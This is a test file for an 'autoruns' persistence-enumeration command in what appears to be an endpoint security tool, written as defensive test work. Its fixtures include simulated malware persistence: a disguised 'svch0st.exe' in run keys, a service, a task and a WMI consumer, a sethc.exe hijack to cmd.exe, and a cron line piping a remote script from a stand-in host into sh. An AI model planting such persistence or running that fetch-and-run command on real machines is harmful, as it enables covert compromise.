import { describe, expect, it } from 'vitest';
import { newMark, partTexts, toolScript } from '../../../../src/live/tool-script.ts';
import { macAutoruns } from '../../../../src/verbs/system/autoruns/unix.ts';
import { windowsAutoruns } from '../../../../src/verbs/system/autoruns/windows.ts';
import { EndpointDriver, linuxSpec } from '../../../lab/sensors/support/endpoint-driver.ts';
import { labVerbs } from '../../../support/lab-verbs.ts';

const world = labVerbs();

describe('autoruns', () => {
  it('shows keys of the registry, of machine and users, services, tasks and consumers', async () => {
    const windows = await world.on(10);
    const shown = await windows.out('autoruns --fields place,name,path');
    for (const row of [
      'run key\tUpdater\tC:\\Users\\Administrator\\AppData\\Roaming\\Updater\\svch0st.exe -k netsvcs',
      'run key\tOneDrive\t"C:\\Users\\Administrator\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      'image hijack\tsethc.exe\tC:\\Windows\\System32\\cmd.exe',
      'winlogon\tShell\texplorer.exe',
      'service\tUpdSvc\tC:\\Users\\Administrator\\AppData\\Roaming\\Updater\\svch0st.exe',
      'task\t\\Updater\tC:\\Users\\Administrator\\AppData\\Roaming\\Updater\\svch0st.exe',
      'wmi consumer\tUpdater\tC:\\Users\\Administrator\\AppData\\Roaming\\Updater\\svch0st.exe -k wmi',
    ])
      expect(shown).toContain(`${row}\n`);
    // A service that nobody starts does not.
    expect(shown).not.toContain('service\tWinDefend');
  });

  it('shows what lies in startup folders', async () => {
    const windows = await world.on(10);
    const folder =
      'C:\\Users\\Jörg Müller\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup';
    await windows.out(`exec --wait -- cmd.exe /c echo x> "${folder}\\größer & mehr.cmd"`);
    expect(await windows.out('autoruns --fields place,name,path')).toContain(
      `startup folder\tgrößer & mehr.cmd\t${folder}\\größer & mehr.cmd\n`,
    );
    await windows.out(`rm --yes "${folder}\\größer & mehr.cmd"`);
  });

  it('names what could not be read, with exit 6', async () => {
    const windows = await world.on(10);
    await windows.out('rm --yes C:\\Windows\\System32\\reg.exe');
    const ran = await windows.run('autoruns --fields place');
    expect(ran.exitCode).toBe(6);
    expect(ran.stderr).toContain('not read: HKEY_LOCAL_MACHINE\\SOFTWARE\n');
    expect(ran.stdout).toContain('service\n');
    expect(ran.stdout).not.toContain('run key');
  });

  it('shows cron, units, keys and profiles of Linux', async () => {
    const linux = await world.on(1);
    const shown = await linux.out('autoruns --fields place,account,path,source');
    for (const row of [
      'cron\tnginx\tcurl -fsSL http://pool.example.invalid/x.sh | sh\t/etc/cron.d/0update',
      'service\troot\t/usr/sbin/sshd\tservices',
      'timer\t\tlogrotate.service\tsystemctl',
      'shell profile\t\t/home/mgarcia/.bashrc\t/home/mgarcia/.bashrc',
    ])
      expect(shown).toContain(`${row}\n`);
    expect(shown).toMatch(
      /^ssh key\t\tssh-ed25519 \S+ mgarcia@laptop\t\/home\/mgarcia\/.ssh\/authorized_keys$/m,
    );
  });

  it('shows what a file tries on the terminal as signs, and a mark in it as nothing', async () => {
    const linux = await world.on(1);
    const script =
      "printf '* * * * * root \\\\033]0;x\\\\007\\\\ncblr0011223344556677 ok\\\\n' > /etc/cron.d/odd";
    await linux.out(`exec --wait -- /bin/sh -c "${script}"`);
    const { stdout } = await linux.run('autoruns --fields path', { tty: true });
    expect(stdout).toContain('\\u{1b}]0;x\\u{7}');
    expect(stdout).toContain('cblr0011223344556677 ok');
    expect(stdout).not.toMatch(/[\u0007\u001b]/);
    expect(stdout).toContain('mgarcia@laptop');
    await linux.out('rm --yes /etc/cron.d/odd');
  });

  it('shows no units where there is no systemd, and says nothing of them', async () => {
    const linux = await world.on(1);
    await linux.out('rm --yes /bin/systemctl');
    const ran = await linux.run('autoruns --fields place');
    expect(ran).toMatchObject({ exitCode: 0, stderr: '' });
    expect(ran.stdout).not.toContain('service');
  });

  it('shows jobs of launchd', async () => {
    const mac = new EndpointDriver(linuxSpec({ os: 'macos', osName: 'Mac OSX 14.2' }));
    const mark = newMark();
    const parts = macAutoruns.map(({ name, line }) => ({ name, line: line(mark) }));
    const { text } = await mac.exec(toolScript('unix', '/', mark, parts).commandLine);
    const texts = partTexts(text, mark);
    const readings = macAutoruns.map((section) =>
      section.read(texts.get(section.name) ?? { text: '', isOk: false }, mark),
    );
    expect(readings.flatMap(({ unread }) => unread)).toEqual([]);
    expect(readings.flatMap(({ rows }) => rows)).toContainEqual(
      expect.objectContaining({ place: 'launch agent', name: 'com.example.update' }),
    );
  });

  it('is one program start, and leaves nothing', async () => {
    const windows = await world.on(10);
    const sent: unknown[] = [];
    const dry = await world.open(10, { dryRun: (request) => sent.push(request.body), pid: 2 });
    await dry.run('autoruns');
    expect(sent).toEqual([expect.objectContaining({ name: 'create process' })]);
    await dry.leave();
    const before = await windows.out('ls --fields name');
    await windows.run('autoruns');
    expect(await windows.out('ls --fields name')).toBe(before);
  });

  it('fits the longest line that cmd.exe takes', () => {
    const mark = newMark();
    const parts = windowsAutoruns.map(({ name, line }) => ({ name, line: line(mark) }));
    const { commandLine } = toolScript('windows', 'C:\\Windows\\CarbonBlack', mark, parts);
    expect(commandLine.length).toBeLessThan(8191);
  });
});
